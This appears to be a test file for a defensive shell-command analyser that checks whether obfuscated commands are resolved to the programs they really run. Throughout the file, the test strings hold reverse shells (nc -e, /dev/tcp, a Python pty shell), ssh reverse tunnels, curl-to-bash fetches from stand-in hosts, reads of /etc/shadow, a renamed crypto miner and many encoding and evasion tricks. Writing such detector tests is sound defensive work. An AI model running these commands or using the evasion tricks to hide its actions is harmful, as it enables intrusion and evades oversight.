"""The shell reader: what each hiding technique resolves to."""
import pytest

from vigiles.analysis.shell import Session, ShellReader

reader = ShellReader()


def names(text, session=None):
    return [c.name for c in reader.read(text, session)]


def find(text, name, session=None):
    return next(c for c in reader.read(text, session) if c.name == name)


def test_simple_command_features():
    cmd = find("sudo -u root ssh -fNR 8080:localhost:22 -p 443 user@203.0.113.9 2>/dev/null", "ssh")
    assert cmd.args[:2] == ["-fNR", "8080:localhost:22"]
    assert {"-f", "-N", "-R", "-p"} <= set(cmd.flags)
    assert [e.host for e in cmd.endpoints] == ["203.0.113.9"]
    assert cmd.via == ("sudo",)
    assert cmd.redirects == ["2>/dev/null"]


@pytest.mark.parametrize("text", [
    "a=ss; b=h; $a$b -R 1:l:22 h",
    "/usr/bin/s's'\"h\" -R 1:l:22 h",
    "s\\sh -R 1:l:22 h",
    "$'\\x73\\x73\\x68' -R 1:l:22 h",
    "bash -c 'ssh -R 1:l:22 h'",
    "sh -c \"eval 'ssh -R 1:l:22 h'\"",
    "echo c3NoIC1SIDE6bDoyMiBo | base64 -d | bash",
    "base64 -d <<< c3NoIC1SIDE6bDoyMiBo | sh",
    "echo 737368202d5220313a6c3a32322068 | xxd -r -p | bash",
    "printf '\\x73\\x73\\x68 -R 1:l:22 h' | sh",
    "X=$(echo c3NoIC1SIDE6bDoyMiBo | base64 -d); $X",
    "bash <<EOF\nssh -R 1:l:22 h\nEOF",
    "python3 -c 'import os; os.system(\"ssh -R 1:l:22 h\")'",
    "python3 -c \"import subprocess; subprocess.run(['ssh', '-R', '1:l:22', 'h'])\"",
    "perl -e 'system(\"ssh -R 1:l:22 h\")'",
    "nohup env FOO=1 timeout 100 ssh -R 1:l:22 h &",
    "find . -maxdepth 0 -exec ssh -R 1:l:22 h \\;",
    "echo 'ssh -R 1:l:22 h' | rev | rev | sh",
])
def test_hidden_program_is_resolved(text):
    cmd = find(text, "ssh")
    assert "-R" in cmd.flags


def test_script_written_then_run_is_read_when_run():
    session = Session()
    reader.read("cat > /tmp/job.sh <<'X'\n#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\nX", session)
    cmd = find("cd /tmp && chmod +x job.sh && ./job.sh", "nc", session)
    assert "script ./job.sh" in cmd.via
    assert [str(e) for e in cmd.endpoints] == ["198.51.100.7", ":4444"]


def test_python_reverse_shell_code_is_read():
    cmd = find("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));"
               "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", "python3")
    assert {"s.connect", "os.dup2", "pty.spawn"} <= cmd.code.calls
    assert [str(e) for e in cmd.endpoints] == ["198.51.100.7:4444"]


def test_dev_tcp_redirect_is_an_endpoint():
    cmd = find("bash -i >& /dev/tcp/198.51.100.7/9001 0>&1", "bash")
    assert cmd.redirects[0] == ">&/dev/tcp/198.51.100.7/9001"
    assert [str(e) for e in cmd.endpoints] == ["198.51.100.7:9001"]


def test_ssh_remote_command_is_not_ssh_flags():
    ssh = find("ssh -t example.com 'screen -r -X ls'", "ssh")
    assert "-R" not in ssh.flags and "-r" not in ssh.flags
    assert "screen" in names("ssh -t example.com 'screen -r -X ls'")


def test_assignments_and_exports_are_visible():
    cmds = reader.read("export http_proxy=http://10.0.0.1:3128; HISTFILE=/dev/null; unset HISTFILE")
    assert [(c.name, c.args) for c in cmds] == [("export", ["http_proxy=http://10.0.0.1:3128"]),
                                                 ("assign", ["HISTFILE=/dev/null"]), ("unset", ["HISTFILE"])]


def test_hostile_input_is_bounded():
    deep = "bash -c " * 50 + "id"
    assert len(reader.read(deep)) < 60
    long_text = "echo " + "A" * 2_000_000
    assert reader.read(long_text)[0].name == "echo"
    nested = "$(" * 5000 + ")" * 5000
    reader.read(nested)  # must return, not recurse without bound


def test_nesting_has_a_bound_of_its_own_at_every_entry_point():
    """The walk stops at MAX_NESTING itself, not at Python's recursion limit: compiled, it would
    have none (vigiles/_compiled.py). What was read is kept, and the rest is an unreadable command."""
    import sys

    from vigiles.analysis.shell import MAX_NESTING, UNREADABLE
    deep = "( " * (MAX_NESTING + 50) + "nc -e /bin/sh 10.0.0.1 4444" + " )" * (MAX_NESTING + 50)
    readable = "( " * 250 + "nc -e /bin/sh 10.0.0.1 4444" + " )" * 250
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(100_000)
    try:
        assert [c.name for c in reader.read("id; " + deep)] == ["id", UNREADABLE]
        assert reader.read(readable)[-1].name == "nc"
    finally:
        sys.setrecursionlimit(limit)
    assert [c.name for c in reader.read_argv(["bash", "-c", deep])] == ["bash", UNREADABLE]
    assert reader.read_cron("* * * * * " + deep)[-1].name == UNREADABLE
    assert reader.read_code("python", f"import os; os.system({deep!r})")[-1].name == UNREADABLE


def test_words_after_a_mid_command_redirect_stay_with_the_command():
    find_cmd = find("find / -name id_rsa 2>/dev/null -exec rsync -R {} /tmp/x \\;", "find")
    assert find_cmd.args[-3:] == ["{}", "/tmp/x", ";"] and "2>/dev/null" in find_cmd.redirects
    assert find("find / -name id_rsa 2>/dev/null -exec rsync -R {} /tmp/x \\;", "rsync").via == ("find",)


def test_loop_redirections_reach_the_commands_inside():
    assert find("while read l; do echo $l; done < /etc/shadow", "read").reads == ["/etc/shadow"]


def test_sudo_environment_assignments_and_container_exec_and_traps():
    assert find("sudo LD_PRELOAD=/tmp/x.so apache2", "apache2").env == {"LD_PRELOAD": "/tmp/x.so"}
    assert find("kubectl exec -it pod -- bash -c 'cat /etc/shadow'", "cat").args == ["/etc/shadow"]
    assert find("docker exec -u root web cat /etc/shadow", "cat").via == ("docker",)
    assert "sh" in names("trap 'curl http://x.example/a | sh' DEBUG")


@pytest.mark.parametrize("text", [
    "ls -la /tmp", "ssh -fNR 1:l:22 user@198.51.100.4 -p 443", "grep -rn 'pass word' src/",
    "echo \"hello world\" 'a b' c", "git commit -m \"fix: the 'thing'\"", "curl -H 'X-A: b' https://x.example/a",
    "python3 -c 'import os; os.system(\"id\")'", "a'b'c \"d\"e f", "nc -e /bin/sh 198.51.100.7 4444",
    "sudo -u root env FOO=1 nohup ssh -R 1:l:22 h", "find . -name foo -exec cat {} ;",
])
def test_plain_commands_read_the_same_without_a_parse(text):
    from vigiles.analysis import shell
    fast = [(c.name, c.args, sorted(c.flags), c.via, [str(e) for e in c.endpoints]) for c in reader.read(text)]
    walk = shell._Walk(reader._parser, Session())
    walk.text(text, (), {}, 0)
    slow = [(c.name, c.args, sorted(c.flags), c.via, [str(e) for e in c.endpoints]) for c in walk.out]
    assert fast == slow


@pytest.mark.parametrize("text", ["ls *.py", "echo 'unterminated", "a=1 b", "for x in y", "cat <f", "x;y"])
def test_texts_with_shell_syntax_take_the_parser(text):
    from vigiles.analysis.shell import plain_words
    assert plain_words(text) is None


def test_pipelines_through_wrappers_groups_and_bare_redirections():
    assert find("echo 'u:p' | sudo chpasswd", "chpasswd").pipe_from == ["echo"]
    assert find("sudo dmidecode | grep -i vbox", "grep").pipe_from == ["dmidecode"]
    assert find("curl -s http://x.example/y | sudo bash", "bash").pipe_from == ["curl"]
    added = find("(crontab -l; echo '* * * * * nc -e /bin/sh 198.51.100.7 4444') | crontab -", "nc")
    assert added.via == ("crontab",)
    assert find("> /var/log/syslog", ":").writes == ["/var/log/syslog"]


def test_brace_expansion_as_bash_does_it():
    from vigiles.analysis.shell import brace_expand
    assert brace_expand("{cat,/etc/passwd}") == ["cat", "/etc/passwd"]
    assert brace_expand("/bin/{ba,}sh") == ["/bin/bash", "/bin/sh"]
    assert brace_expand("a{b,c}d{e,f}") == ["abde", "abdf", "acde", "acdf"]
    assert brace_expand("{a,{b,c}}x") == ["ax", "bx", "cx"]
    assert brace_expand("x{1..3}") == ["x1", "x2", "x3"]
    assert brace_expand("{}") == ["{}"] and brace_expand("x{y}z") == ["x{y}z"]
    assert len(brace_expand("{a,b}" * 12)) == 64  # bounded: 4,096 words cut to 64


def test_brace_words_are_read_as_the_command_they_expand_to():
    reader = ShellReader()
    assert [c.line for c in reader.read("{curl,-s,http://evil.example/x.sh}|{bash,}")] == [
        "curl -s http://evil.example/x.sh", "bash"]
    assert [c.line for c in reader.read("if true; then {nc,-e,/bin/sh,198.51.100.7,4444}; fi")][-1] == \
        "nc -e /bin/sh 198.51.100.7 4444"
    assert [c.line for c in reader.read("cu{rl,} http://x")] == ["curl cu http://x"]
    # a group, find's {} and awk's braces are not brace expansions
    assert [c.line for c in reader.read("{ echo a; }")] == ["echo a"]
    assert [c.name for c in reader.read("find . -name x -exec rm {} \\;")] == ["find", "rm"]
    assert [c.line for c in reader.read("awk '{print $1, $2}' f")] == ["awk {print $1, $2} f"]


def test_brace_expansion_is_bounded_on_hostile_words():
    from hypothesis import given, settings, strategies as st

    from vigiles.analysis.shell import MAX_BRACE_WORDS, brace_expand

    assert brace_expand("{a,b}" * 3000) == ["{a,b}" * 3000]  # too many braces: left as written
    assert brace_expand("{" * 5000 + "a,b" + "}" * 5000)[0].startswith("{{")

    @settings(max_examples=300, deadline=None)
    @given(st.text(alphabet="{},.ab1-", max_size=80))
    def check(word):
        out = brace_expand(word)
        assert 1 <= len(out) <= MAX_BRACE_WORDS
    check()


def test_a_backslash_newline_joins_words_as_bash_does():
    reader = ShellReader()
    assert [c.line for c in reader.read("cu\\\nrl -s http://x | ba\\\nsh")] == ["curl -s http://x", "bash"]
    assert [c.line for c in reader.read("tar -czf out.tgz \\\n  src/")] == ["tar -czf out.tgz src/"]


def test_expansions_empty_in_a_fresh_shell_vanish_from_words():
    reader = ShellReader()
    for text in ("n$@c -e /bin/sh 198.51.100.7 4444", 'n"$@"c -e /bin/sh 198.51.100.7 4444',
                 "n$()c -e /bin/sh 198.51.100.7 4444", "n``c -e /bin/sh 198.51.100.7 4444",
                 "n$*c -e /bin/sh 198.51.100.7 4444"):
        assert [c.line for c in reader.read(text)] == ["nc -e /bin/sh 198.51.100.7 4444"], text
    assert [c.line for c in reader.read("echo $1b")][-1] == "echo b"  # $1 (empty), then b
    assert [c.line for c in reader.read("set -- a b; echo $1b")][-1] == "echo ab"  # `set --` sets $1
    assert [c.line for c in reader.read("x=$(date)")] == ["date", "assign x=$(date)"]


def test_parameter_expansions_that_hide_a_word_are_applied():
    reader = ShellReader()
    lines = [c.line for c in reader.read("a=hello; echo ${a:1} ${a: -2} ${a:1:-1} ${a^^} ${a^} ${a//l/L} ${a%lo} ${a#he}")]
    assert lines[-1] == "echo ello lo ell HELLO Hello heLLo hel llo"
    for text in ("a=ncxx; ${a:0:2} -e /bin/sh 198.51.100.7 4444", "a=nXc; ${a/X/} -e /bin/sh 198.51.100.7 4444",
                 "A=N; ${A,,}c -e /bin/sh 198.51.100.7 4444", "nc${IFS}-e${IFS}/bin/sh${IFS}198.51.100.7 4444",
                 "nc$IFS-e /bin/sh 198.51.100.7 4444"):
        assert [c.line for c in reader.read(text)][-1] == "nc -e /bin/sh 198.51.100.7 4444", text
    assert [c.line for c in reader.read("a=x; echo ${a%%*o} ${b:-dflt}")][-1] == "echo x dflt"  # a glob: left alone


def test_words_built_by_builtins_and_files_are_followed():
    reader = ShellReader()
    target = "nc -e /bin/sh 198.51.100.7 4444"
    for text in ("y=nc; x=y; ${!x} -e /bin/sh 198.51.100.7 4444",        # indirection
                 "x=n; x+=c; $x -e /bin/sh 198.51.100.7 4444",           # append
                 "alias x=nc; x -e /bin/sh 198.51.100.7 4444",           # alias
                 "printf -v x 'nc'; $x -e /bin/sh 198.51.100.7 4444",    # printf -v
                 "read x <<< nc; $x -e /bin/sh 198.51.100.7 4444",       # read from a here-string
                 f"sh <(echo {target})", f"source <(echo {target})",    # process substitution as a file
                 f"echo '{target}' > /tmp/a; sh < /tmp/a",               # stdin from a file written
                 f"echo '{target}' > /tmp/a; cat /tmp/a | bash",         # cat of it into a shell
                 "a=(n c); ${a[0]}${a[1]} -e /bin/sh 198.51.100.7 4444",  # array elements
                 f"echo {target} | xargs -I{{}} sh -c '{{}}'"):          # xargs -I
        assert target in [c.line for c in reader.read(text, Session())], text
    assert [c.line for c in reader.read("alias ls=ls; ls -la", Session())][1:] == ["ls -la", "ls -la"]  # no loop


def test_arrays_and_xargs_are_read():
    reader = ShellReader()
    assert [c.line for c in reader.read("a=(x y z); echo ${a[2]} ${a[@]} $a")] == ["assign a=(x y z)", "echo z x y z x"]
    lines = [c.line for c in reader.read("printf 'a.sh\\nb.sh\\n' | xargs -I F chmod +x F")]
    assert lines[-2:] == ["chmod +x a.sh", "chmod +x b.sh"]
    assert [c.line for c in reader.read("echo one two | xargs rm -f")][-1] == "rm -f one two"


def test_unquoted_expansions_are_split_on_ifs():
    reader = ShellReader()
    cmds = reader.read('IFS=,; c=nc,-e,/bin/sh,198.51.100.7,4444; $c')
    assert (cmds[-1].name, cmds[-1].args) == ("nc", ["-e", "/bin/sh", "198.51.100.7", "4444"])
    cmds = reader.read('a="-e /bin/sh"; nc $a host 1')  # the default IFS splits on spaces
    assert cmds[-1].args == ["-e", "/bin/sh", "host", "1"]
    cmds = reader.read('x="a b"; echo "$x"; IFS=; echo $x')  # quoted, or an empty IFS: one word
    assert [c.args for c in cmds if c.name == "echo"] == [["a b"], ["a b"]]


def test_arithmetic_in_words_is_evaluated_when_known():
    reader = ShellReader()
    assert [(c.name, c.args) for c in reader.read("python$((3)) -c pass")] == [("python3", ["-c", "pass"])]
    assert reader.read("p=4440; echo /dev/tcp/h/$((p+4))")[-1].args == ["/dev/tcp/h/4444"]
    assert reader.read("echo $((n+1))")[-1].args == ["$((n+1))"]  # unknown: as written


def test_positional_parameters_of_functions_and_set():
    reader = ShellReader()
    cmds = reader.read('f(){ nc "$@"; }; f -e /bin/sh 198.51.100.7 4444')
    assert ("nc", ["-e", "/bin/sh", "198.51.100.7", "4444"]) in [(c.name, c.args) for c in cmds]
    assert ("nc", ["-lvp"]) in [(c.name, c.args) for c in reader.read("g(){ $1 $2; }; g nc -lvp")]
    assert [c.line for c in reader.read('set -- nc -e /bin/sh h 1; "$@"')][-1] == "nc -e /bin/sh h 1"
    assert len(reader.read("h(){ h; }; h")) < 10  # a function calling itself is read once more, not forever


def test_what_eval_and_read_assign_stays_set():
    reader = ShellReader()
    assert [c.line for c in reader.read('eval "$(echo ZXhwb3J0IFg9bmM= | base64 -d)"; $X -e sh')][-1] == "nc -e sh"
    assert [c.line for c in reader.read('IFS=: read -r a b <<< "nc:x"; $a -e sh')][-1] == "nc -e sh"


@pytest.mark.parametrize("text", ["'/tmp/ /sshd'", "echo hi; '/tmp/  /sshd'", "/tmp/\\ /sshd", '"/tmp/ /sshd"'])
def test_a_quoted_program_path_with_spaces_is_one_program(text):
    assert ShellReader().read(text, Session())[-1].name.strip() == "sshd"


def test_a_variable_holding_a_command_line_is_still_read_as_one():
    cmds = ShellReader().read('c="nc -e /bin/sh 10.0.0.1 9"; "$c"', Session())
    assert [c.name for c in cmds][-1] == "nc"


def test_an_unset_variable_glued_inside_a_word_is_empty_elsewhere_it_stays():
    def names(text):
        return [(c.name, c.args) for c in ShellReader().read(text, Session())]
    assert names("cu${x}rl -s https://x.example") == [("curl", ["-s", "https://x.example"])]
    assert names("n${x:-}c -e /bin/sh h 1")[0][0] == "nc"
    assert names("x=rl; cu${x}")[-1][0] == "curl"  # a variable it saw set keeps its value
    assert names("ls /srv/${DIR}/x $HOME/.bashrc") == [("ls", ["/srv/${DIR}/x", "$HOME/.bashrc"])]


@pytest.mark.parametrize("text", ["${x:-cu}rl -s u", "${x-cu}rl -s u", "${x:=cu}rl -s u", "${x=cu}rl -s u",
                                  "cu${x:+zz}rl -s u"])
def test_the_operators_of_an_unset_variable(text):
    assert ShellReader().read(text, Session())[0].name == "curl"


@pytest.mark.parametrize("text", ["n`false`c -e /bin/sh h 1", "n$(:)c -e /bin/sh h 1", "n`true`c -e /bin/sh h 1"])
def test_a_substitution_that_prints_nothing_inside_a_word_leaves_the_word_whole(text):
    assert ShellReader().read(text, Session())[-1].name == "nc"


def test_what_a_shell_runs_of_other_programs_output():
    def fed(text):
        return {c.name: c.fed_by for c in ShellReader().read(text, Session()) if c.fed_by}
    assert fed("sh <(curl -s https://x.example/i)") == {"sh": ["curl"]}
    assert fed('bash -c "$(wget -qO- https://x.example/i | gunzip)"') == {"bash": ["gunzip", "wget"]}
    assert fed("curl -s https://x.example/i > /tmp/i.sh && bash /tmp/i.sh") == {"bash": ["curl"]}
    assert fed("curl -fsSLo /tmp/i.sh https://x.example/i && sh /tmp/i.sh") == {"sh": ["curl"]}
    assert fed("echo $(curl -s https://x.example/ip)") == {}  # printed, not run
    assert fed("curl -so a.sh https://x.example/a; bash b.sh") == {}
    # no loop over a substitution whose output is unknown: read once, named by its text
    cmds = ShellReader().read('bash -c "$(curl -s https://x.example/i)"', Session())
    assert [c.name for c in cmds] == ["curl", "bash", "curl", "$(curl -s https://x.example/i)"]


@pytest.mark.parametrize("text", [
    "echo 'mc -e /bin/sh 10.0.0.1 4444' | sed 's/^m/n/' | sh",
    "printf '%s\\n' '~c -e /bi~/sh 10.0.0.1 4444' | sed -e 's/~/n/g' | bash",
    "echo 'ap -r /ova/fu 10.0.0.1 4444' | tr 'a-z' 'n-za-m' | sh",
    "echo 'nc -e /bin/sh 10.0.0.1 4444' | sed 's/x/y/' | sh",
    "echo 'ZZ -e /bin/sh 10.0.0.1 4444' | perl -pe 's/ZZ/nc/' | sh",
    "echo 'nc -e /bin/sh 10.0.0.1 4444' | grep nc | sh",
    "echo 'nc -e /bin/sh 10.0.0.1 4444' | awk '{print}' | sh",
    "echo 'mc -e /bin/sh 10.0.0.1 4444' | sed '1s/^m/n/' | head -n 1 | bash",
    "echo 'xnc -e /bin/sh 10.0.0.1 4444' | cut -c2- | sh",
])
def test_text_rewritten_by_a_filter_on_its_way_to_a_shell_is_read(text):
    nc = find(text, "nc")
    assert nc.args == ["-e", "/bin/sh", "10.0.0.1", "4444"]


@pytest.mark.parametrize("text", [
    "echo 'nc -e /bin/sh 10.0.0.1 4444' | grep -v nc > clean.sh",
    "echo 'nc -e /bin/sh 10.0.0.1 4444' | sed '/nc/d' > clean.sh",
    "echo 'nc -e /bin/sh 10.0.0.1 4444' | sed '1s/^/# /' > commented.sh",
    "echo 'nc -e /bin/sh 10.0.0.1 4444' | grep -v nc | sh",
])
def test_a_filter_that_removes_the_command_leaves_nothing_to_run(text):
    assert "nc" not in names(text)


@pytest.mark.parametrize("text", [
    "echo 'mc -e /bin/sh 10.0.0.1 4444' | sed 's/^m/n/e'",
    "echo x | sed 'e nc -e /bin/sh 10.0.0.1 4444'",
    "sed -n '1e nc -e /bin/sh 10.0.0.1 4444' /etc/hostname",
    "echo 'nc -e /bin/sh 10.0.0.1 4444' | sed -n e",
])
def test_commands_sed_runs_itself_are_read(text):
    assert find(text, "nc").args == ["-e", "/bin/sh", "10.0.0.1", "4444"]


def test_a_filter_whose_output_feeds_nothing_runs_nothing_more():
    assert names("echo 'nc -e /bin/sh h 1' | sed 's/x/y/'") == ["echo", "sed"]
    assert names("printf 'a\\nb\\n' | sort | uniq -c") == ["printf", "sort", "uniq"]


def test_a_redirection_after_a_pipeline_writes_the_last_command_s_output():
    session = Session()
    cmds = reader.read("echo 'mc -e /bin/sh 10.0.0.1 4444' | tr m n > /tmp/r.sh; bash /tmp/r.sh", session)
    assert session.lookup("/tmp/r.sh") == "nc -e /bin/sh 10.0.0.1 4444\n"
    assert [c.name for c in cmds].count("nc") >= 1
    tr = next(c for c in cmds if c.name == "tr")
    echo = next(c for c in cmds if c.name == "echo")
    assert "/tmp/r.sh" in tr.writes and "/tmp/r.sh" not in echo.writes  # the shell gives it to the last


@pytest.mark.parametrize("text, program", [
    ("ln -s /usr/bin/ssh /tmp/s; /tmp/s -R 2222:localhost:22 u@203.0.113.4", "ssh"),
    ("cp /bin/nc /tmp/.kworker; /tmp/.kworker -e /bin/sh 10.0.0.1 4444", "nc"),
    ("cp $(which ssh) /tmp/.x; /tmp/.x -fNR 2222:localhost:22 u@203.0.113.4", "ssh"),
    ("cp ./xmrig /dev/shm/kthreadd && /dev/shm/kthreadd -o pool.example:3333", "xmrig"),
    ("cp /usr/bin/ssh /tmp/ && cd /tmp && ln -s ssh .s && ./.s -R 2222:localhost:22 u@203.0.113.4", "ssh"),
    ("mv ./xmrig ./.cache; ./.cache -o pool.example:3333", "xmrig"),
])
def test_a_program_copied_or_linked_under_another_name_runs_as_itself(text, program):
    cmd = next(c for c in reader.read(text) if c.name == program and any(v.startswith("script ") for v in c.via))
    assert len(cmd.args) >= 2


def test_a_copied_script_and_script_arguments():
    session = Session()
    cmds = reader.read("echo 'nc -e /bin/sh $1 $2' > a.sh; cp a.sh /tmp/b.sh; bash /tmp/b.sh 10.0.0.1 4444", session)
    assert [c.args for c in cmds if c.name == "nc"][-1] == ["-e", "/bin/sh", "10.0.0.1", "4444"]
    assert session.lookup("/tmp/b.sh") == "nc -e /bin/sh $1 $2\n"
    cmds = reader.read(". /tmp/b.sh 192.0.2.1 9", session)  # a later action, sourcing it with arguments
    assert [c.args for c in cmds if c.name == "nc"][-1] == ["-e", "/bin/sh", "192.0.2.1", "9"]


def test_xargs_with_a_delimiter_passes_each_item_whole():
    nc = find("echo 'nc -e /bin/sh 10.0.0.1 4444' | xargs -0 sh -c", "nc")
    assert nc.args == ["-e", "/bin/sh", "10.0.0.1", "4444"]
    assert find("printf 'a b,c' | xargs -d , touch", "touch").args == ["a b", "c"]


@pytest.mark.parametrize("text, program, arg", [
    ("ssh -o PermitLocalCommand=yes -o LocalCommand='nc -e /bin/sh 203.0.113.9 4444' u@h", "nc", "-e"),
    ("ssh -o 'ProxyCommand nc -X 5 -x 198.51.100.7:1080 %h %p' u@h", "nc", "-X"),
    ("git -c core.sshCommand='ssh -R 2222:localhost:22' fetch git@github.com:x/y", "ssh", "-R"),
    ("git -c alias.st='!nc -e /bin/sh 203.0.113.9 4444' st", "nc", "-e"),
    ("GIT_SSH_COMMAND='ssh -R 2222:localhost:22' git pull", "ssh", "-R"),
    ("rsync -e 'ssh -R 2222:localhost:22' a u@h:b", "ssh", "-R"),
    ("rsync --rsh='ssh -R 2222:localhost:22' a u@h:b", "ssh", "-R"),
    ("rsync -e'ssh -R 2222:localhost:22' a u@h:b", "ssh", "-R"),         # the value glued to -e
    ("rsync -avze'ssh -R 2222:localhost:22' a u@h:b", "ssh", "-R"),
    ("scp -o ProxyCommand='nc -e /bin/sh 203.0.113.9 4444' a u@h:b", "nc", "-e"),
])
def test_commands_carried_in_options_are_read(text, program, arg):
    assert arg in find(text, program).args


def test_an_ssh_config_the_session_wrote_is_read_where_it_is_used():
    session = Session()
    reader.read("printf 'Host *\\n  RemoteForward 2222 localhost:22\\n' > /tmp/cfg", session)
    cmds = reader.read("ssh -F /tmp/cfg -fN u@203.0.113.4", session)
    assert any("-oremoteforward=2222 localhost:22" in c.args for c in cmds if c.name == "ssh")
    assert names("ssh -F /tmp/cfg -fN u@203.0.113.4", Session()) == ["ssh"]  # a config nobody wrote: as is


@pytest.mark.parametrize("text", [
    "install -m 755 /usr/bin/nc /tmp/x; /tmp/x -e /bin/sh 10.0.0.1 4444",
    "cp -S .bak /usr/bin/nc /tmp/x; /tmp/x -e /bin/sh 10.0.0.1 4444",
    "cp `which nc` /tmp/x; /tmp/x -e /bin/sh 10.0.0.1 4444",
    "cp $(type -P nc) /tmp/x; /tmp/x -e /bin/sh 10.0.0.1 4444",
    "cp /usr/bin/nc ~/x; ~/x -e /bin/sh 10.0.0.1 4444",
    "cp -t /tmp /usr/bin/nc; /tmp/nc -e /bin/sh 10.0.0.1 4444",
    "printf 'ls\\0nc -e /bin/sh 10.0.0.1 4444\\0' | xargs -0 -n1 sh -c",
    "printf 'nc -e /bin/sh 10.0.0.1 4444' | xargs -0r sh -c",
    "printf 'nc -e /bin/sh 10.0.0.1 4444' | xargs -r0 sh -c",
])
def test_copies_with_options_and_xargs_option_forms(text):
    assert ["-e", "/bin/sh", "10.0.0.1", "4444"] in [c.args for c in reader.read(text) if c.name == "nc"]


@pytest.mark.parametrize("text", [
    "printf '${1} -e /bin/sh 10.0.0.1 4444' > /tmp/a.sh; sh /tmp/a.sh nc",
    "f(){ ${1} -e /bin/sh 10.0.0.1 4444; }; f nc",
    "sh -c '$1 -e /bin/sh 10.0.0.1 4444' _ nc",
    "sh -c '$0 -e /bin/sh 10.0.0.1 4444' nc",
    "echo 'nc -e /bin/sh $1 $2' | bash -s 10.0.0.1 4444",
    "f(){ shift; $1 -e /bin/sh 10.0.0.1 4444; }; f x nc",
])
def test_positional_parameters_braced_shifted_and_given_to_sh_c_or_bash_s(text):
    assert ["-e", "/bin/sh", "10.0.0.1", "4444"] in [c.args for c in reader.read(text) if c.name == "nc"]


def test_sed_on_files_the_session_wrote_reads_and_edits_them():
    session = Session()
    cmds = reader.read("echo 'mc -e /bin/sh 10.0.0.1 4444' > /tmp/a.txt; sed 's/^m/n/' /tmp/a.txt | sh", session)
    assert "nc" in [c.name for c in cmds]
    reader.read("echo 'mc -e /bin/sh 10.0.0.1 4444' > /tmp/b.sh", session)
    reader.read("sed -i.bak -e 's/^m/n/' /tmp/b.sh", session)  # edited in place, in a later action
    assert session.lookup("/tmp/b.sh") == "nc -e /bin/sh 10.0.0.1 4444\n"
    assert "nc" in names("sh /tmp/b.sh", session)
    assert names("sed -i 's/a/b/' /etc/hosts", Session()) == ["sed"]  # a file nobody wrote: as before


@pytest.mark.parametrize("text", [
    "echo '$1 -e /bin/sh 10.0.0.1 4444' | bash -s -- nc",
    "bash -c -- '$1 -e /bin/sh 10.0.0.1 4444' _ nc",
    "bash -o pipefail -c '$1 -e /bin/sh 10.0.0.1 4444' _ nc",
])
def test_shell_options_before_the_command_string(text):
    assert ["-e", "/bin/sh", "10.0.0.1", "4444"] in [c.args for c in reader.read(text) if c.name == "nc"]


def test_option_forms_of_ssh_rsync_and_xargs():
    text = "printf 'Host *\\n\\tRemoteForward\\t2222 localhost:22\\n' > /tmp/cfg; ssh -F/tmp/cfg -fN u@203.0.113.4"
    assert any("-oremoteforward=2222 localhost:22" in c.args for c in reader.read(text) if c.name == "ssh")
    assert "-R" in find("rsync -avze 'ssh -R 2222:localhost:22' a u@h:b", "ssh").args
    calls = [c.args for c in reader.read("printf 'ls\\nid\\n' | xargs --max-args=1 echo") if c.name == "echo"]
    assert calls == [["ls"], ["id"]]
    assert [c.args for c in reader.read("printf 'a b c' | xargs -n1 echo") if c.name == "echo"] == [["a"], ["b"], ["c"]]


def test_clustered_options_before_a_value_in_bash_and_ssh():
    assert ["-e", "/bin/sh", "10.0.0.1", "4444"] in [
        c.args for c in reader.read("bash -eo pipefail -c '$1 -e /bin/sh 10.0.0.1 4444' _ nc") if c.name == "nc"]
    session = Session()
    reader.read("printf 'Host *\\n  RemoteForward 2222 localhost:22\\n' > /tmp/cfg", session)
    cmds = [c for c in reader.read("ssh -qF /tmp/cfg -N u@203.0.113.4", session) if c.name == "ssh"]
    assert len(cmds) == 2 and cmds[1].args == ["-oremoteforward=2222 localhost:22", "-N", "u@203.0.113.4"]


# -- programs that run a command given to them in their own syntax ---------------------------------
TUNNEL = "ssh -fNR 4444:localhost:22 a@203.0.113.7"


@pytest.mark.parametrize("text", [
    f"screen -dmS t {TUNNEL}",                                  # -S takes a name: the command follows it
    f"screen -d -m -S t {TUNNEL}",
    f"screen -S t -X stuff '{TUNNEL}\\n'",                      # typed into a running session's shell
    f"screen -S t -X exec {TUNNEL}",
    f"tmux new -d -s work '{TUNNEL}'",                          # -s takes a name
    f"tmux new-session -d -s a \\; send-keys '{TUNNEL}' C-m",  # a second tmux command types it
    f"tmux send-keys -t work '{TUNNEL}' Enter",
    f"tmux -c '{TUNNEL}'",
    f"tmux run-shell -b '{TUNNEL}'",
    f"parallel ::: '{TUNNEL}'",                                 # no command: each argument is one
    f"parallel -j 2 sh -c ::: '{TUNNEL}'",
    f"echo '{TUNNEL}' | parallel",
    f"vim -c ':!{TUNNEL}' -c ':q' notes.txt",
    f"nvim +'silent !{TUNNEL}' +q",
    f"vi -c 'call system(\"{TUNNEL}\")'",
    f"env -S '{TUNNEL}'",                                       # env splits the string into words
    f"env -iS'{TUNNEL}'",
    f"env --split-string='{TUNNEL}'",
    f"script -qc '{TUNNEL}' /dev/null",                         # -q -c, clustered
    f"su -lc '{TUNNEL}' agent",
    f"flock -n /tmp/l -c '{TUNNEL}'",
    f"printf '{TUNNEL}\\0' | xargs -0I{{}} sh -c '{{}}'",       # -0 -I{}, clustered
    f"echo '{TUNNEL}' | xargs -0 -I {{}} sh -c {{}}",
    f"S='{TUNNEL}'; git --config-env=core.sshCommand=S fetch",  # git reads the setting from $S
    f"export S='{TUNNEL}'; git --config-env core.sshCommand=S pull",
])
def test_commands_given_in_a_programs_own_syntax_are_read(text):
    ssh = find(text, "ssh")
    assert ssh.args[:2] == ["-fNR", "4444:localhost:22"]
    assert [e.host for e in ssh.endpoints] == ["203.0.113.7"]


@pytest.mark.parametrize("text", [
    "screen -r main", "screen -d main", "screen -ls", "screen -x", "tmux attach -t work",
    "tmux new -d -s work", "script -q /dev/null", "script log.txt", "su - root",
    "vim +10 notes.txt", "vim +/pattern notes.txt", "vim -c ':set nu' notes.txt",
    "parallel --version", "git --config-env=core.sshCommand=UNSET fetch",
])
def test_the_same_programs_run_nothing_more_where_nothing_is_given(text):
    assert len(reader.read(text)) == 1


def test_screen_and_tmux_take_their_options_values_apart_from_the_command():
    assert names("screen -dmS build make -j8") == ["screen", "make"]
    assert names("tmux new -d -s work -n editor 'python train.py'") == ["tmux", "python"]
    assert [c.line for c in reader.read("parallel gzip ::: a.txt 'b c.txt'")][1:] == ["gzip a.txt", "gzip b c.txt"]
